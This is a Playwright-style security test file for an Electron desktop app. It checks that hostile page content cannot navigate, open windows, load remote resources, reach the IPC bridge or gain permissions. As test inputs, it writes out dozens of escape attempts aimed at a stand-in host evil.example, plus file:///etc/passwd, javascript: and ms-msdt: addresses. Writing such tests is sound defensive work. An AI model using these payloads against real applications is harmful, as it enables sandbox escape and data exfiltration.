/** Ways out of the window of the desktop program, each tried from inside the page as hostile content would (T3). */
import { createRandom } from '../../src/server/demo/random.ts'
import { AGREED, spoiled } from '../support/windowSpeech.ts'
import { expect, isStandIn, test } from './support/desktop.ts'

const EVIL = 'https://evil.example'

const SEED = 20_261
/** `npm run test:faults -- T4` has a million in all; here the handlers behind it are those of the program. */
const CASES_OF_ONE = 150

/** What a page that got out of hand could run. */
const ROUTES: Readonly<Record<string, string>> = {
  'the address': `location.href = '${EVIL}/1'`,
  'the address, by assign': `location.assign('${EVIL}/2')`,
  'the address, by replace': `location.replace('${EVIL}/3')`,
  'the address of the top window': `top.location = '${EVIL}/4'`,
  'a file of the disk': `location.href = 'file:///etc/passwd'`,
  'a data address': `location.href = 'data:text/html,<h1>x</h1>'`,
  'a script address': `location.href = 'javascript:document.write(1)'`,
  'another program': `location.href = 'ms-msdt:/id'`,
  'a file of our own that is no page': `location.href = '/assets/nothing.js'`,
  'a new window': `window.open('${EVIL}/5')`,
  'a new window of our own page': `window.open('/index.html')`,
  'an empty new window': `window.open('about:blank')`,
  'a link': `link({ href: '${EVIL}/6' })`,
  'a link into a new window': `link({ href: '${EVIL}/7', target: '_blank' })`,
  'a link into a new window without a line to us': `link({ href: '${EVIL}/8', target: '_blank', rel: 'noopener' })`,
  'a form': `form({ action: '${EVIL}/9', method: 'post' })`,
  'a form into a new window': `form({ action: '${EVIL}/10', target: '_blank' })`,
  'a refresh': `add('meta', { httpEquiv: 'refresh', content: '0;url=${EVIL}/11' })`,
  'a base address': `add('base', { href: '${EVIL}/' }); link({ href: '12' })`,
  'a frame': `add('iframe', { src: '${EVIL}/13' })`,
  'a frame with its own text': `add('iframe', { srcdoc: '<script>top.location="${EVIL}/14"</scr' + 'ipt>' })`,
  'an object': `add('object', { data: '${EVIL}/15', type: 'text/html' })`,
  'an embedded thing': `add('embed', { src: '${EVIL}/16' })`,
  'a webview': `add('webview', { src: '${EVIL}/17' })`,
  'a script from elsewhere': `add('script', { src: '${EVIL}/18' })`,
  'a module from elsewhere': `import('${EVIL}/19').catch(() => 0)`,
  'a style from elsewhere': `add('link', { rel: 'stylesheet', href: '${EVIL}/20' })`,
  'a picture from elsewhere': `add('img', { src: '${EVIL}/21' })`,
  'a request': `fetch('${EVIL}/22').catch(() => 0)`,
  'a beacon': `navigator.sendBeacon('${EVIL}/23')`,
  'a socket': `try { new WebSocket('wss://evil.example/24') } catch {}`,
  'a worker of its own': `try { new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}/25")']))) } catch {}`,
  'the bridge, with a bad address': `foyer.ask('link.open', 'file:///etc/passwd')`,
  'the bridge, with no address': `foyer.ask('link.open', { toString: () => '${EVIL}' }).catch(() => 0)`,
  'the bridge, with a name of its own': `foyer.ask('shell.openExternal', '${EVIL}').catch(() => 0)`,
}

const HELPERS = `
  const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values))
  const link = (values) => { const a = Object.assign(document.createElement('a'), values); document.body.append(a); a.click() }
  const form = (values) => { const f = Object.assign(document.createElement('form'), values); document.body.append(f); f.submit() }
`

test.skip(!isStandIn, 'what a page asks for is seen by the stand-in only')

test('hostile content finds no way out of the window: 35 routes, a dropped file and every permission', async ({
  desktop,
}) => {
  const program = desktop()
  // No tool is connected to the page: it would take part in what the page opens.
  const inPage = (code: string): Promise<unknown> =>
    program.evaluate(
      ({ BrowserWindow }, given) =>
        BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(given, true),
      code,
    )
  await expect.poll(() => inPage("document.querySelector('input[type=password]') !== null")).toBe(true)
  await inPage("marker = 'still here'")

  for (const [name, code] of Object.entries(ROUTES)) {
    await inPage(`{${HELPERS}${code}}; 0`)
    // What was begun comes to its end, or to ours.
    expect(await inPage('new Promise((go) => setTimeout(() => go(marker), 40))'), name).toBe('still here')
  }
  await program.evaluate(
    async ({ BrowserWindow }, urls) => {
      for (const url of urls) await BrowserWindow.getAllWindows()[0]?.webContents.drop(url)
    },
    ['file:///etc/passwd', `${EVIL}/26`],
  )
  expect(await inPage('new Promise((go) => setTimeout(() => go(marker), 100))')).toBe('still here')

  // The attempts were real; a busy machine is not through with them at once.
  const attempts = (): Promise<readonly number[]> =>
    program.evaluate(({ standIn }) =>
      ['navigation refused', 'window wanted'].map(
        (wanted) => (standIn?.done ?? []).filter(({ what }) => what.startsWith(wanted)).length,
      ),
    )
  await expect.poll(async () => (await attempts())[0]).toBeGreaterThan(5)
  await expect.poll(async () => (await attempts())[1]).toBeGreaterThan(2)
  expect(await inPage('marker')).toBe('still here')

  const seen = await program.evaluate(({ standIn, BrowserWindow }) => ({
    done: (standIn?.done ?? []).map(({ what, details }) => `${what} ${JSON.stringify(details)}`),
    windows: BrowserWindow.getAllWindows().length,
    address: BrowserWindow.getAllWindows()[0]?.webContents.getURL(),
  }))
  expect(seen.address).toBe('app://foyer/index.html')
  expect(seen.windows).toBe(1)
  expect(seen.done.filter((line) => line.startsWith('request') || line.startsWith('opened'))).toEqual([])

  // These the browser itself refuses or does not let the stand-in see; the program refuses them too.
  const prevented = await program.evaluate(({ BrowserWindow }) =>
    [
      'blob:app://foyer/1',
      'data:text/html,x',
      'file:///etc/passwd',
      'about:blank',
      'app://foyer/assets/x.js',
    ].filter((url) => {
      let refused = false
      BrowserWindow.getAllWindows()[0]?.webContents.emit('will-frame-navigate', {
        url,
        isMainFrame: true,
        preventDefault: () => (refused = true),
      })
      return refused
    }),
  )
  expect(prevented).toHaveLength(5)

  const allowed = await program.evaluate(({ session, BrowserWindow }) => {
    const { permissionRequest, permissionCheck, device } = session.defaultSession
    const contents = BrowserWindow.getAllWindows()[0]?.webContents
    const names = [
      'notifications',
      'clipboard-sanitized-write',
      'media',
      'geolocation',
      'midi',
      'openExternal',
    ]
    const asked = names.filter((permission) => {
      let answer = false
      permissionRequest?.(contents, permission, (yes) => (answer = yes), {})
      return answer
    })
    // The microphone is for voices; the camera is for nothing.
    const heard = [['audio'], ['video'], ['audio', 'video']].map((mediaTypes) => {
      let answer = false
      permissionRequest?.(contents, 'media', (yes) => (answer = yes), { mediaTypes })
      return answer
    })
    const check = (permission: string, origin: string, mediaType?: string) =>
      permissionCheck?.(contents, permission, origin, { mediaType })
    return {
      asked,
      heard,
      checked: names.filter((permission) => check(permission, 'app://foyer')),
      microphone: check('media', 'app://foyer', 'audio'),
      camera: check('media', 'app://foyer', 'video'),
      foreign: names.filter((permission) => check(permission, 'https://evil.example', 'audio')),
      device: device?.(),
      preferences: BrowserWindow.getAllWindows().map(({ options }) => options.webPreferences),
    }
  })
  expect(allowed).toMatchObject({
    asked: ['notifications', 'clipboard-sanitized-write'],
    checked: ['notifications', 'clipboard-sanitized-write'],
    heard: [true, false, false],
    microphone: true,
    camera: false,
    foreign: [],
    device: false,
    preferences: [{ sandbox: true, contextIsolation: true, nodeIntegration: false, webSecurity: true }],
  })
})

test('T4 a page is given three functions, and nothing is heard of it but what is agreed and comes from its top frame', async ({
  desktop,
}) => {
  const program = desktop()
  await program.page()
  const given = await program.evaluate(async ({ BrowserWindow, standIn }) => ({
    bridge: await BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(
      'Object.entries(foyer).map(([name, value]) => `${name}: ${typeof value}`)',
    ),
    electron: await BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(
      "['require', 'process', 'ipcRenderer', 'electron', 'module'].filter((name) => name in window)",
    ),
    channels: standIn?.channels(),
  }))
  expect(given).toEqual({
    bridge: ['platform: string', 'watch: function', 'tell: function', 'ask: function'],
    electron: [],
    channels: ['shell.ask', 'shell.tell'],
  })

  const random = createRandom(SEED)
  const hostile = AGREED.flatMap((speech) =>
    Array.from({ length: CASES_OF_ONE }, () => spoiled(random, speech)),
  )
  const heard = await program.evaluate(
    async ({ standIn, BrowserWindow }, { agreed, spoiled: bad }) => {
      const sender = BrowserWindow.getAllWindows()[0]?.webContents
      const say = async (senderFrame: unknown, { channel, said }: (typeof agreed)[number]) =>
        standIn?.hear({ sender, senderFrame } as never, channel, [...said])
      const page = { url: 'app://foyer/index.html', parent: null }
      const strangers = [
        null,
        { url: 'https://evil.example/', parent: null },
        { url: 'app://foyer/index.html', parent: {} },
        { url: 'app://foyer.example/index.html', parent: null },
        { url: 'app://foyer/assets/x.js', parent: null },
      ]
      const before = standIn?.done.length
      const answers: (string | null | undefined)[] = []
      for (const speech of bad) answers.push((await say(page, speech))?.error)
      for (const stranger of strangers)
        for (const speech of agreed) answers.push((await say(stranger, speech))?.error)
      return {
        refused: answers.filter((error) => error?.endsWith('refused')).length,
        unheard: answers.filter((error) => error === null).length,
        others: answers.filter((error) => error !== null && error?.endsWith('refused') !== true),
        done: standIn?.done.slice(before),
        answered: await say(page, {
          name: '',
          channel: 'shell.ask',
          said: ['link.open', 'https://example.org/'],
        }),
      }
    },
    { agreed: AGREED, spoiled: hostile },
  )
  const ofKind = (channel: string): number => AGREED.filter((speech) => speech.channel === channel).length
  expect(heard).toEqual({
    refused: ofKind('shell.ask') * (CASES_OF_ONE + 5),
    unheard: ofKind('shell.tell') * (CASES_OF_ONE + 5),
    others: [],
    done: [],
    answered: { value: true, error: null },
  })
  // The page goes on as before.
  await expect((await program.page()).getByLabel('Password')).toBeVisible()
})
